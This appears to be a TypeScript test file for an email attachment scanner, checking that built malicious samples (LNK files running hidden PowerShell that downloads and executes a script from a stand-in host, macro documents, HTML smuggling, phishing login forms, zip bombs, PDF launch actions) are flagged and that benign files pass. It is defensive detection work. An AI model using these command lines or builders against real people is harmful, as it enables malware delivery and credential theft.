import assert from 'node:assert/strict';
import { test } from 'node:test';
import { analyzeAttachment, type AttachmentAnalysis } from '../../mail/attachments/index.js';
import * as B from './index.js';

function analyze(name: string, bytes: Uint8Array, bodyText?: string): AttachmentAnalysis {
  return analyzeAttachment({ filename: name, declaredType: undefined, content: bytes }, bodyText === undefined ? undefined : { bodyText });
}

const PS_LNK = { target: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', args: '-w hidden -ep bypass -c "iwr https://cdn-docs.example.net/u.ps1 | iex"', iconLocation: 'C:\\Program Files (x86)\\Hnc\\Office 2020\\HOffice110\\Bin\\Hwp.exe' };

/** Weaponised builders: [file name, bytes, expected detected type, flags that must be present, body text]. */
const weaponised: [string, () => Uint8Array, string, string[], string?][] = [
  ['통일정책_설문.hwp', () => B.buildHwp({ text: '설문 조사에 협조 부탁드립니다', eps: '%!PS-Adobe-3.0 EPSF-3.0\n/a 1 def\n' }), 'hwp', ['hwp-eps']],
  ['script.hwp', () => B.buildHwp({ text: '안내', script: 'var s = new ActiveXObject("WScript.Shell"); s.Run("mshta https://x.example/a.hta");' }), 'hwp', ['hwp-script']],
  ['안내문.hwpx', () => B.buildHwpx({ text: '안내문', eps: '%!PS-Adobe-3.0\n', script: 'function OnDocument_Open() { run(); }' }), 'hwpx', ['hwp-eps', 'hwp-script']],
  ['Salary_Review.docm', () => B.buildDocm({ macro: 'Shell "cmd /c powershell -enc SQBFAFgA"' }), 'docm', ['vba-macro', 'vba-autoexec', 'vba-suspicious']],
  ['Job_Description.docx', () => B.buildDocxRemoteTemplate('https://docs-share.example.com/t/JD.dotm'), 'docx', ['remote-template']],
  ['Notice.docx', () => B.buildDocxDde('C:\\\\Windows\\\\System32\\\\cmd.exe "/c calc"'), 'docx', ['dde']],
  ['Budget.xls', () => B.buildXlsWithMacro({ macro: 'CreateObject("WScript.Shell").Run "calc"' }), 'xls', ['vba-macro', 'vba-autoexec']],
  ['Wallet_Audit.pdf.lnk', () => B.buildLnk(PS_LNK), 'lnk', ['lnk', 'lnk-lolbin', 'double-extension']],
  ['Documents.iso', () => B.buildIso({ files: [{ name: 'Audit.pdf.lnk', data: B.buildLnk(PS_LNK) }] }), 'iso', ['disk-image', 'lnk-lolbin', 'double-extension']],
  ['Audit.img', () => B.buildImg({ files: [{ name: 'Audit Report.pdf.lnk', data: B.buildLnk(PS_LNK) }] }), 'img', ['disk-image', 'lnk-lolbin', 'double-extension']],
  ['Secure.zip', () => B.buildZip({ 'Secure.js': 'new ActiveXObject("WScript.Shell").Run("calc")' }, { encrypted: true, password: '2024' }), 'zip', ['encrypted-archive', 'archive-password-in-body', 'archive-password-verified', 'script'], '압축 비밀번호: 2024'],
  ['bomb.zip', () => B.buildZipBomb(), 'zip', ['zip-bomb']],
  ['Statement.pdf', () => B.buildPdf({ javascript: 'app.launchURL("https://x.example/")', openAction: true, uris: ['https://upbit.com.account-verify.example/'] }), 'pdf', ['pdf-javascript', 'pdf-openaction', 'pdf-uri']],
  ['Extrato.pdf', () => B.buildPdf({ uris: ['https://portal-bb.example/resgate'], password: '123' }), 'pdf', ['document-password-in-body', 'pdf-uri', 'pdf-encrypted'], 'Senha do PDF: 123'],
  ['Launch.pdf', () => B.buildPdf({ launch: 'cmd.exe', launchParams: '/c calc', openAction: true }), 'pdf', ['pdf-launch']],
  ['Remittance.html', () => B.buildHtmlSmuggling({ payload: B.buildZip({ 'Remittance.lnk': B.buildLnk(PS_LNK) }), filename: 'Remittance.zip' }), 'html', ['html-smuggling', 'lnk-lolbin']],
  ['Login.html', () => B.buildHtmlCredentialForm('https://auth-upbit.example.com/login.php', { brand: 'Upbit', email: 'kim@exchange.example' }), 'html', ['html-password-form']],
];

for (const [name, build, type, flags, body] of weaponised) {
  test(`builder output detected: ${name}`, () => {
    const bytes = build();
    const a = analyze(name, bytes, body);
    assert.equal(a.detectedType, type);
    for (const f of flags) assert.ok(a.flags.includes(f), `${f} missing from ${a.flags.join(',')}`);
    assert.ok(a.findings.some((f) => f.severity === 'high' || f.severity === 'critical'));
    assert.deepEqual(build(), bytes, 'deterministic');
  });
}

const benign: [string, () => Uint8Array, string][] = [
  ['Invoice_INV-2024-0315.pdf', () => B.buildCleanPdfInvoice(), 'pdf'],
  ['Minutes.docx', () => B.buildCleanDocx({ title: 'Minutes', paragraphs: ['Agenda', 'Actions'] }), 'docx'],
  ['Ledger.xlsx', () => B.buildCleanXlsx(), 'xlsx'],
  ['logo.png', () => B.buildPng({ width: 16, height: 16 }), 'png'],
  ['invite.ics', () => B.buildIcs({ summary: 'Quarterly review', start: '2024-03-20T01:00:00Z', end: '2024-03-20T02:00:00Z', organizer: 'ops@exchange.example', attendees: ['kim@exchange.example'] }), 'ics'],
  ['회의록.hwp', () => B.buildHwp({ text: '2024년 1분기 회의록' }), 'hwp'],
  ['회의록.hwpx', () => B.buildHwpx({ text: '2024년 1분기 회의록' }), 'hwpx'],
  ['photos.zip', () => B.buildZip({ 'a.png': B.buildPng(), 'notes.txt': 'see you' }), 'zip'],
];

for (const [name, build, type] of benign) {
  test(`benign builder output is clean: ${name}`, () => {
    const bytes = build();
    const a = analyze(name, bytes);
    assert.equal(a.detectedType, type);
    assert.deepEqual(a.findings.filter((f) => f.severity !== 'info' && f.severity !== 'low'), []);
    assert.deepEqual(build(), bytes, 'deterministic');
  });
}

test('cfb writer: storages implied by paths, readable back', () => {
  const cfb = B.buildCfb([{ path: 'A/B/c', data: new Uint8Array([1, 2, 3]) }], { rootClsid: '000C1084-0000-0000-C000-000000000046' });
  const a = analyze('setup.msi', cfb);
  assert.equal(a.detectedType, 'msi');
  assert.ok(a.flags.includes('executable'));
});

test('zip writer: utf-8 names round-trip', () => {
  const a = analyze('k.zip', B.buildZip({ '보고서.txt': '안녕' }));
  assert.equal(a.members[0]?.path, '보고서.txt');
});
